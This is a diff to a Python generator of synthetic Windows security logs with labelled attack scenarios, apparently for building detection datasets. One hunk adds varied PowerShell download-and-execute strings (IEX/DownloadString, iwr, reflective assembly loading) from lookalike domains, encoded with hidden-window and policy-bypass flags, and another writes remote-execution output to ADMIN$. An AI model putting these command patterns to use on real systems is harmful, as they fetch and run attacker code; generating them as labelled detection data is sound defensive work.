@@ -53,6 +53,7 @@ import argparse
 import base64
 import collections
 import gzip
+import io
 import json
 import os
 import random
@@ -242,6 +243,7 @@ class Gen:
     def build_org(self):
         r = self.rng
         a = self.a
+        self.admin_names = set()
         hid = iter(range(1, 10 ** 6))
         # infrastructure
         self.dcs = [Host("ADS%02d" % (i + 1), "192.168.8.%d" % (11 + i), "dc", next(hid))
@@ -352,7 +354,6 @@ class Gen:
                 if r.random() < 0.05:
                     self.absent[(u.name, d)] = True
         self.hd_touched = collections.defaultdict(set)
-        self.admin_names = set()
 
     def make_admin(self, u, kind="admin"):
         r = self.rng
@@ -369,10 +370,8 @@ class Gen:
                                        for _ in range(4))
             else:
                 name = "%s%s-sa" % (u.first[0], u.last)
-            if name not in getattr(self, "admin_names", set()):
+            if name not in self.admin_names:
                 break
-        if not hasattr(self, "admin_names"):
-            self.admin_names = set()
         self.admin_names.add(name)
         adm = Account(name, self.new_sid(), kind)
         adm.first, adm.last, adm.ou, adm.owner = u.first, u.last, "Tier1Admins", u
@@ -655,9 +654,8 @@ class Gen:
                 self.admin_day(adm, d)
             for hd in self.helpdesk:
                 self.helpdesk_day(hd, d)
-            if d * DAY < self.end - DAY or True:
-                if d not in self.migration_nights:
-                    self.backup_night(d, self.backup)
+            if d not in self.migration_nights:
+                self.backup_night(d, self.backup)
             if self.weekday(d) == deploy_wd:
                 self.deploy_week(d)
             if self.weekday(d) == scan_wd and d < a.baseline_days:
@@ -711,8 +709,15 @@ class Gen:
         dom = r.choice(["cdn-update", "docs-share", "msoffice-cloud", "invoice-portal",
                         "sharepoint-files"]) + r.choice([".com", ".net", ".info", ".co"])
         if r.random() < 0.6:
-            script = "IEX (New-Object Net.WebClient).DownloadString('https://%s/%s')" % (
-                dom, r.choice(["a", "s.ps1", "update", "r"]))
+            url = "https://%s/%s" % (dom, r.choice(["a", "s.ps1", "update", "r", "k"]))
+            script = r.choice([
+                "IEX (New-Object Net.WebClient).DownloadString('%s')",
+                "$w=New-Object System.Net.WebClient;$w.Proxy.Credentials=[Net.CredentialCache]"
+                "::DefaultNetworkCredentials;iex $w.DownloadString('%s')",
+                "iex (iwr -UseBasicParsing '%s').Content",
+                "sal n New-Object;$d=(n Net.WebClient).DownloadData('%s');"
+                "[Reflection.Assembly]::Load($d).EntryPoint.Invoke($null,$null)",
+            ]) % url
             enc = base64.b64encode(script.encode("utf-16-le")).decode()
             flag = r.choice(["-enc", "-e", "-EncodedCommand", "-ec"])
             extra = r.choice(["-nop -w hidden", "-NoP -NonI -W Hidden", "-w 1 -ep bypass", ""])
@@ -750,7 +755,7 @@ class Gen:
                 c = r.choice(["whoami", "hostname", "ipconfig", "tasklist", "net localgroup administrators",
                               "dir C:\\Users"])
                 cmd = "cmd.exe /Q /c %s 1> \\\\127.0.0.1\\ADMIN$\\__%d.%d 2>&1" % (
-                    c, int(1.77e9 + t), r.randint(1000, 9999))
+                    c, int(START.timestamp() + t), r.randint(1000, 9999))
             else:
                 cmd = "powershell.exe -nop -c \"%s\"" % r.choice(
                     ["Get-Process", "Get-LocalGroupMember Administrators", "Get-ChildItem C:\\Users",
@@ -848,8 +853,9 @@ class Gen:
         on_dc = r.random() < 0.35
         if on_dc:
             dc = self.dc()
-            self.group_add(t, dc, u, r.choice(["Domain Admins", "Domain Admins", "Backup Operators"]),
-                           DOMAIN if r.random() < 0.7 else "Builtin", u.name, DOMAIN, lab, scen)
+            group = r.choice(["Domain Admins", "Domain Admins", "Backup Operators"])
+            self.group_add(t, dc, u, group, DOMAIN if group == "Domain Admins" else "Builtin",
+                           u.name, DOMAIN, lab, scen)
         else:
             if r.random() < 0.5:
                 self.proc(t - r.uniform(1, 5), h, SYSTEM_USER, SYS32 + "net.exe",
@@ -1040,8 +1046,9 @@ class Gen:
         for kind, d, fn in plan:
             self.scenario(kind, counters[kind], d, fn)
             counters[kind] += 1
-        self.scenarios.sort(key=lambda s: (list(dict.fromkeys(k for k, _, _ in plan)).index(
-            s["kind"]), int(s["scenario"].rsplit("-", 1)[1])))
+        order = list(dict.fromkeys(k for k, _, _ in plan))
+        self.scenarios.sort(key=lambda s: (order.index(s["kind"]),
+                                           int(s["scenario"].rsplit("-", 1)[1])))
         lo, hi = 0.0, self.end - 0.001
         self.ev = [e if lo <= e[0] <= hi else (min(max(e[0], lo), hi),) + e[1:] for e in self.ev]
         self.ev.sort(key=lambda e: (e[0], e[1]))
@@ -1056,8 +1063,11 @@ class Gen:
         dumps = json.JSONEncoder(separators=(",", ":"), ensure_ascii=False).encode
         epath = os.path.join(outdir, "events.jsonl.gz")
         lpath = os.path.join(outdir, "labels.jsonl.gz")
-        with gzip.open(epath, "wt", encoding="utf-8", compresslevel=6) as ef, \
-                gzip.open(lpath, "wt", encoding="utf-8", compresslevel=6) as lf:
+        with open(epath, "wb") as eraw, open(lpath, "wb") as lraw, \
+                gzip.GzipFile("", "wb", 6, eraw, mtime=0) as egz, \
+                gzip.GzipFile("", "wb", 6, lraw, mtime=0) as lgz, \
+                io.TextIOWrapper(egz, encoding="utf-8", newline="\n") as ef, \
+                io.TextIOWrapper(lgz, encoding="utf-8", newline="\n") as lf:
             for t, _, host, eid, data, label, scen in self.ev:
                 rid += r.randint(1, 3)
                 dt = datetime.fromtimestamp(start_ts + t, tz=timezone.utc)
